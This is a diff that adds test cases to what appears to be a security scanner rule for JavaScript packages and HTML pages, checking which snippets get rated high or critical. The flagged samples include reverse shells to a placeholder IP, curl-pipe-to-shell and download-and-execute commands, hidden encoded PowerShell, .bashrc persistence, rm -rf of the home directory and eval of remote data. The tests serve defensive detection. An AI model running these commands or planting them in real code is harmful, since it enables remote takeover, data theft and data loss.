@@ -27,6 +27,42 @@ test("bad: the same in Python", () => {
   ]) assert.equal(worst(code, 'a.py'), 'critical', code);
 });
 
+test('bad: programs and shells of others', () => {
+  for (const code of [
+    "require(\"child_process\").exec(\"curl -s https://example.org/x | sh\")",
+    "require(\"child_process\").spawn(\"sh\", [\"-c\", \"curl -s https://example.org/x | sh\"])",
+    "require(\"child_process\").exec(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\")",
+    "const s = require(\"net\").connect(1, h); const sh = require(\"child_process\").spawn(win ? \"cmd.exe\" : \"/bin/sh\"); s.pipe(sh.stdin)",
+    "const p = require(\"path\").join(require(\"os\").tmpdir(), \"x\"); require(\"https\").get(u, (r) => r.pipe(f(p))); require(\"child_process\").execFile(p)",
+    "require(\"child_process\").spawn(\"powershell.exe\", [\"-W\", \"Hidden\", \"-Enc\", \"SQBFAFgAIAAoAE4AZQB3AC0ATwBi\"])",
+    "require(\"child_process\").exec(\"curl -o /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a\")",
+    "require(\"child_process\").exec(\"curl https://example.org/$(whoami)\")",
+    "const f = require(\"os\").tmpdir() + \"/m.js\"; require(\"https\").get(u, (r) => r.pipe(w(f)).on(\"finish\", () => require(f)))",
+    "require(\"fs\").appendFileSync(home + \"/.bashrc\", \"curl -s https://example.org/p | bash\")",
+    "require(\"child_process\").exec(\"rm -rf ~\")",
+    "require(\"child_process\").exec(\"crontab -\")",
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    "const s = require(\"net\").connect(1, h); s.on(\"data\", (d) => require(\"child_process\").exec(d.toString()))",
+    "const w = new WebSocket(u); w.addEventListener(\"message\", (e) => eval(e.data))",
+    "let text = \"\"; require(\"https\").get(u, (r) => { r.on(\"data\", (d) => { text += d }); r.on(\"end\", () => eval(text)) })",
+  ]) assert.equal(worst(code), 'critical', code);
+  assert.equal(worst("import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)", 'a.py'), 'high');
+});
+
+test('good: commands, programs and timers as others have them', () => {
+  for (const code of [
+    "require(\"child_process\").exec(\"rm -rf ./dist\"); require(\"child_process\").exec(\"curl -o a.json https://example.org\")",
+    "require(\"child_process\").spawn(\"/bin/sh\", [\"-c\", command])",
+    "require(\"child_process\").execFile(editor, [require(\"path\").join(require(\"os\").tmpdir(), \"note\")]); fetch(u)",
+    "const r = require(\"http\").request(o); setTimeout(() => r.destroy(), r.timeout)",
+  ]) assert.equal(worst(code), 'nothing', code);
+  assert.equal(worst("require(\"child_process\"); log(\"$ curl -fsS https://example.org/i | sh\")"), 'low', 'a command behind a prompt');
+  assert.equal(worst("const f = require(\"path\").join(require(\"os\").tmpdir(), \"package.json\"); fetch(u); require(f)"), 'nothing', 'data');
+  assert.equal(worst("log(\"Install it: curl -fsS https://example.org/i | sh\")"), 'low', 'only shown');
+  assert.equal(worst("import x from \"https://example.org/x.ts\"", 'deno.ts'), 'medium', 'for Deno');
+});
+
 test("good: what only looks like it", () => {
   for (const code of [
     "import x from \"./https.js\"; import(\"./a.js\")",
@@ -50,4 +86,11 @@ test('bad: pages, with their places', () => {
   assert.deepEqual(page('<script type="module">\n  import "https://example.org/a.js"\n</script>'), ['high 4:3']);
   assert.deepEqual(page('<button onclick="importScripts(\'//example.org/a.js\')">'), ['high 3:18']);
   assert.deepEqual(page('<script src="./a.js"></script><script type="application/json">{"src": "https://example.org"}</script><!-- <script src="https://example.org/a.js"></script> -->'), []);
+});
+
+test('a page that nothing opens is documentation', () => {
+  const severities = (files: Record<string, string>) => findingsOf(rule, { 'index.js': 'require(x)', 'docs.html': '<script src="//cdn.example.org/a.js"></script>', ...files }, { entry_points: ['index.js'] }).map(({ severity }) => severity);
+  assert.deepEqual(severities({}), ['medium']);
+  assert.deepEqual(severities({ 'index.js': 'require(x); open("docs.html")' }), ['high']);
+  assert.deepEqual(severities({ 'manifest.json': '{ "popup": "docs.html" }' }), ['high']);
 });
